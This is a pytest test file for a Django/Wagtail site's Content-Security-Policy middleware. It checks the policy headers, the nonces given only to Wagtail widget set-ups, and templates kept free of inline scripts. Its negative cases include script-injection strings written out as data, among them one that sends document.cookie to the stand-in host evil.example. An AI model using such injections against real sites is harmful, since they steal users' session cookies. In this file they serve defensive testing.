"""Every response says what a browser may load and run for it: the Content-Security-Policy
(config/csp.py) and the Permissions-Policy. Public pages run nothing inline; the admin runs
Wagtail's own widget set-ups and nothing else inline."""

import re
from pathlib import Path

import pytest
from django.http import HttpResponse
from django.test import RequestFactory
from django.urls import reverse
from wagtail.admin.templatetags.wagtailadmin_tags import avatar_url

from config.csp import ContentSecurityPolicyMiddleware, add_nonce, is_wagtail_setup
from tests.factories import UrgentActionFactory, UserFactory

ROOT = Path(__file__).resolve().parent.parent


def policy(response) -> dict[str, list[str]]:
    directives = {}
    for part in response["Content-Security-Policy"].split(";"):
        name, *values = part.split()
        directives[name] = values
    return directives


def nonce_of(response) -> str:
    (nonce,) = re.findall(r"'nonce-([^']+)'", response["Content-Security-Policy"])
    return nonce


@pytest.mark.django_db
def test_a_public_page_loads_only_from_its_own_origin_and_runs_nothing_inline(client):
    response = client.get(reverse("handovers:verify"))

    directives = policy(response)
    assert directives["default-src"] == ["'self'"]
    # No nonce either: a nonce in a page the shared cache keeps would be everyone's.
    assert directives["script-src"] == ["'self'"]
    assert directives["style-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["base-uri"] == ["'none'"]
    assert directives["form-action"] == ["'self'"]
    assert directives["frame-ancestors"] == ["'none'"]  # as X-Frame-Options: DENY
    assert response["X-Frame-Options"] == "DENY"


@pytest.mark.django_db
def test_every_page_turns_off_the_browser_features_pluma_never_uses(client):
    response = client.get("/no-such-page/")

    assert response.status_code == 404
    features = dict(item.split("=") for item in response["Permissions-Policy"].split(", "))
    for feature in ("camera", "microphone", "geolocation", "browsing-topics", "payment", "usb"):
        assert features[feature] == "()"
    assert "Content-Security-Policy" in response


@pytest.mark.django_db
def test_wagtails_set_up_scripts_in_the_admin_get_the_nonce_and_nothing_else_does(client):
    # The case form has a date field, an inline panel and a chooser: three kinds of set-up.
    case = UrgentActionFactory(title='Defenders <script>alert("x")</script> threatened')
    client.force_login(UserFactory(is_superuser=True))

    response = client.get(reverse("urgent_actions:edit", args=[case.pk]))

    assert response.status_code == 200
    html = response.content.decode()
    nonce = nonce_of(response)
    inline = re.findall(r"<script(?![^>]*\bsrc=)([^>]*)>", html)
    code = [attributes for attributes in inline if "application/json" not in attributes]
    assert len(code) >= 3
    assert all(f'nonce="{nonce}"' in attributes for attributes in code), code
    assert int(response["Content-Length"]) == len(response.content)
    directives = policy(response)
    assert "'unsafe-inline'" not in directives["script-src"]
    assert f"'nonce-{nonce}'" in directives["script-src"]


@pytest.mark.parametrize(
    "body",
    [
        'initDateChooser("id_deadline", {"dayOfWeekStart": 0, "format": "Y-m-d"});',
        'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 0});',
        'new PageChooser("id_page", {"modalUrl": "/admin/choose-page/"});',
        'new Chooser("id_action", {"modalUrl": "/admin/urgent_action_chooser/"});',
        'createTaskChooser("id_task");',
        '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: \\u0022id_texts\\u0022}"));\n        })();\n    ',
    ],
)
def test_a_wagtail_widget_set_up_is_recognised(body):
    assert is_wagtail_setup(body)


@pytest.mark.parametrize(
    "body",
    [
        'alert("x")',
        'initDateChooser("id", alert(document.cookie));',
        'new PageChooser("id", {}); fetch("/admin/users/")',
        'new PageChooser("id", {});alert(1);new PageChooser("id", {});',
        'location.href="//evil.example/"+document.cookie;',
        '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
        '(function() { var panel = new InlinePanel(JSON.parse("x")); })();',
    ],
)
def test_any_other_inline_script_gets_no_nonce(body):
    assert not is_wagtail_setup(body)
    html = f"<p>x</p><script>{body}</script>".encode()
    assert add_nonce(html, "n0nce") == html


def _through_middleware(path: str, response: HttpResponse) -> HttpResponse:
    middleware = ContentSecurityPolicyMiddleware(lambda request: response)
    return middleware(RequestFactory().get(path))


def test_a_page_wagtail_lets_its_own_origin_frame_gets_the_same_from_the_policy():
    inner = HttpResponse("<h1>Preview</h1>")
    # What the page's own pass through the middleware wrote, for its public address.
    inner["Content-Security-Policy"] = "frame-ancestors 'none'"
    inner["X-Frame-Options"] = "SAMEORIGIN"  # Wagtail's preview view

    response = _through_middleware("/admin/pages/3/edit/preview/", inner)

    assert policy(response)["frame-ancestors"] == ["'self'"]


def test_the_admins_relaxations_stay_in_the_admin():
    public = policy(_through_middleware("/actions/", HttpResponse("<p>case</p>")))
    admin = policy(_through_middleware("/admin/", HttpResponse("<p>dashboard</p>")))

    assert public["style-src"] == ["'self'"]
    assert "script-src-attr" not in public
    # Wagtail's rich-text editor writes <style> elements; styles run no code.
    assert admin["style-src"] == ["'self'", "'unsafe-inline'"]
    assert admin["script-src"] == ["'self'"]  # no nonce asked for, none given


def test_no_template_has_inline_script_style_or_event_handler():
    """Public pages are cached for everyone, so they cannot carry a nonce: what a page
    runs or how it looks lives in static files. Emails are exempt (no policy there)."""
    found = []
    for path in (ROOT / "templates").rglob("*.html"):
        if "email" in path.parts:
            continue
        text = path.read_text()
        for pattern in (
            r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>",
            r"<style\b",
            r"<[a-zA-Z][^>]*\sstyle=",
            r"<[a-zA-Z][^>]*\son[a-z]+=",
        ):
            found += [f"{path.relative_to(ROOT)}: {m}" for m in re.findall(pattern, text)]
    assert found == []


@pytest.mark.django_db
def test_the_admin_shows_no_picture_from_gravatar():
    user = UserFactory(email="editor@example.org")

    url = avatar_url(user)

    assert "gravatar" not in url
    assert url.startswith("/static/")
